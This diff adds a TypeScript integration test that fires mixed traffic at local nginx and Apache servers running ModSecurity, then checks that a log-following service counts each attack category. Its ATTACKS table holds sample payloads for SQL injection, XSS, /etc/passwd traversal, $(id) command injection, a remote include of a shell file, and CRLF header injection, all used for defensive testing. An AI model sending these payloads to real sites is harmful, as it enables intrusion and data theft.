@@ -1,0 +1,118 @@
+/** Real web servers with a real firewall, attacked for real, and followed live: the numbers are those of what was sent. */
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { type Api, call, type Distribution, type Request, sum } from './api.ts';
+import { eventually, type Process } from './process.ts';
+import { type Installation, Sandbox } from './sandbox.ts';
+import { APACHE, NGINX, startApache, startNginx, type WebServer } from './web-server.ts';
+
+/** What is sent for each category, and how often. The number makes no two requests alike. */
+const ATTACKS: Record<string, { times: number; request(n: number): Request & { path: string } }> = {
+  sqli: { times: 30, request: (n) => ({ path: `/?id=${n}%27%20OR%20%271%27=%271%27--%20-` }) },
+  xss: { times: 25, request: (n) => ({ path: `/?q=%3Cscript%3Ealert(${n})%3C/script%3E` }) },
+  lfi: { times: 20, request: (n) => ({ path: `/?page=../../../../etc/passwd&n=${n}` }) },
+  cmdi: { times: 20, request: (n) => ({ path: `/?x=$(id);%20cat%20/etc/hosts&n=${n}` }) },
+  rfi: { times: 15, request: (n) => ({ path: `/?file=http://10.1.2.3/shell.txt&n=${n}` }) },
+  robot: { times: 15, request: (n) => ({ path: `/?n=${n}`, headers: { 'User-Agent': 'Nikto/2.1.5' } }) },
+  custom: { times: 10, request: (n) => ({ path: `/own-rule?n=${n}` }) },
+  illegal: { times: 10, request: (n) => ({ path: `/?n=${n}`, method: 'DELETE' }) },
+  vuln: { times: 5, request: (n) => ({ path: `/?n=${n}&x=%0d%0aSet-Cookie:%20a=b` }) },
+};
+const ATTACK_COUNT = Object.values(ATTACKS).reduce((total, { times }) => total + times, 0);
+const REQUEST_COUNT = 400;
+const HOSTS = ['shop.example.com', 'www.example.com'];
+
+let sandbox: Sandbox;
+let installation: Installation;
+let api: Api;
+let webServer: WebServer | null = null;
+
+beforeEach(async () => {
+  sandbox = new Sandbox();
+  ({ installation, api } = await sandbox.service());
+});
+
+afterEach(async () => {
+  await webServer?.stop();
+  webServer = null;
+  await sandbox.clear();
+});
+
+function follow(...files: string[]): Process {
+  return sandbox.start(['follow', '--data', sandbox.data, '--project', installation.project, ...files]);
+}
+
+/** In an order that mixes them, a few at a time, as real traffic comes. */
+async function attack(address: string): Promise<void> {
+  const requests = Object.values(ATTACKS).flatMap(({ times, request }) =>
+    Array.from({ length: times }, (_, n) => request(n)),
+  );
+  for (let n = 0; requests.length < REQUEST_COUNT; n++) requests.push({ path: `/?page=${n}` });
+  const mixed = requests
+    .map((request, i) => ({ request, order: (i * 7_919) % 401 }))
+    .sort((a, b) => a.order - b.order);
+  for (let start = 0; start < mixed.length; start += 5) {
+    await Promise.all(
+      mixed.slice(start, start + 5).map(async ({ request: { path, headers, ...rest } }, i) => {
+        const host = HOSTS[i % HOSTS.length] ?? '';
+        await call(address, path, {
+          ...rest,
+          headers: { Host: host, 'User-Agent': 'Mozilla/5.0', Accept: '*/*', ...headers },
+        });
+      }),
+    );
+  }
+}
+
+async function expectWhatWasSent(since: number): Promise<void> {
+  const range = `from=${since}&to=${Date.now() + 60_000}`;
+  const distribution = await eventually(async () => {
+    const { requests, attacks } = await api.timeline(range);
+    if (sum(requests) < REQUEST_COUNT || sum(attacks) < ATTACK_COUNT) return undefined;
+    return api.distribution(range);
+  }, `${REQUEST_COUNT} requests and ${ATTACK_COUNT} attacks`);
+  const { requests, attacks } = await api.timeline(range);
+  expect(sum(requests)).toBe(REQUEST_COUNT);
+  expect(sum(attacks)).toBe(ATTACK_COUNT);
+  const sent: Distribution = Object.fromEntries(
+    Object.entries(ATTACKS).map(([name, { times }]) => [name, times]),
+  );
+  expect(Object.fromEntries(Object.entries(distribution).filter(([, n]) => n > 0))).toEqual(sent);
+  expect([...(await api.hostIds()).keys()]).toEqual(HOSTS);
+  const ids = [...(await api.hostIds()).values()];
+  const ofHosts = await api.timeline(`${range}&hosts=${ids.join('&hosts=')}`);
+  expect(ofHosts).toEqual(await api.timeline(range));
+}
+
+describe.skipIf(!NGINX.isThere() && process.env.CI !== 'true')(
+  `nginx with ModSecurity 3 (needs: ${NGINX.needs})`,
+  () => {
+    test.each(['JSON', 'Native'] as const)('access log and %s audit log, followed live', async (format) => {
+      const since = Date.now() - 1_000;
+      webServer = await startNginx(format);
+      follow(webServer.accessLog, webServer.auditLog);
+      await attack(webServer.address);
+      await expectWhatWasSent(since);
+    });
+
+    test('access log and error log, followed live: the rules of one request are one attack', async () => {
+      const since = Date.now() - 1_000;
+      webServer = await startNginx('JSON');
+      follow(webServer.accessLog, webServer.errorLog);
+      await attack(webServer.address);
+      await expectWhatWasSent(since);
+    });
+  },
+);
+
+describe.skipIf(!APACHE.isThere() && process.env.CI !== 'true')(
+  `Apache with mod_security2 (needs: ${APACHE.needs})`,
+  () => {
+    test.each(['JSON', 'Native'] as const)('access log and %s audit log, followed live', async (format) => {
+      const since = Date.now() - 1_000;
+      webServer = await startApache(format);
+      follow(webServer.accessLog, webServer.auditLog);
+      await attack(webServer.address);
+      await expectWhatWasSent(since);
+    });
+  },
+);
